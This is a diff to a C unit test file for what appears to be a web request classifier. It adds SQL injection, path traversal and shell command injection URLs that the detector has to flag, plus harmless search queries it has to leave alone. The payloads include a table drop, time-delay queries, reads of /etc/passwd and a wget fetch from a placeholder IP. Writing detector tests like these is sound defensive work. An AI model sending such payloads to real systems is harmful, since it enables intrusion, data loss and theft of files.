@@ -31,7 +31,10 @@ static void knows_words_for_a_database(void **state)
         "/item?id=1'xor(if(now()=sysdate(),sleep(15),0))xor'z",
         "/item?id=(select+table_name+from+information_schema.tables)",
         "/item?id=1';+drop+table+users",
-        "/item?id=1';waitfor+delay+'0:0:5'",
+        "/item?id=1;waitfor+delay+'0:0:5'",
+        "/item?id=1+and+2=(select+count(*)+from+a)",
+        "/item?id=1+and+1=convert(int,(select+1))",
+        "/login?user=admin'--",
     };
     for (size_t i = 0; i < sizeof targets / sizeof *targets; i++) {
         assert_int_equal(kind_of(targets[i], false), WEB_SQL);
@@ -45,6 +48,7 @@ static void knows_paths_that_climb_out(void **state)
     assert_int_equal(kind_of("/get?file=..%2f..%2f..%2fa", false), WEB_TRAVERSAL);
     assert_int_equal(kind_of("/cgi-bin/.%2e/.%2e/a", true), WEB_TRAVERSAL);
     assert_int_equal(kind_of("/get?file=..\\..\\..\\windows\\win.ini", false), WEB_TRAVERSAL);
+    assert_int_equal(kind_of("/shop/WEB-INF/web.xml?", false), WEB_TRAVERSAL);
     assert_int_equal(kind_of("/get?file=/etc/passwd", false), WEB_TRAVERSAL);
     assert_int_equal(kind_of("/get?file=file:///etc/passwd", false), WEB_TRAVERSAL);
 }
@@ -58,6 +62,10 @@ static void knows_commands_for_a_shell(void **state)
         "/ping?host=a%26%26wget+http://198.51.100.9/a",
         "/ping?host=$(id)",
         "/ping?host=`id`",
+        "/ping?host=a;/usr/bin/id",
+        "/ping?host=a%20%26%20ping%20-n%203%20127.0.0.1",
+        "/ping?host=|/usr/bin/whoami",
+        "/ping?host=|/bin/ls+-al",
         "/ping?host=a;wget${IFS}http://198.51.100.9/a",
     };
     for (size_t i = 0; i < sizeof targets / sizeof *targets; i++) {
@@ -96,6 +104,9 @@ static void leaves_what_people_and_programs_ask_for_alone(void **state)
         "/search?q=system()+in+php",
         "/search?q=dogs;+cat+pictures",
         "/search?q=ls+|+grep",
+        "/search?q=ham+%26+eggs+%26+ls",
+        "/search?q=(select+one)",
+        "/search?q=uname+(command)",
         "/search?q=order+by+phone",
         "/list?sort=name;id&fields=name|id",
         "/list?filter=(price>10+and+size=4)",
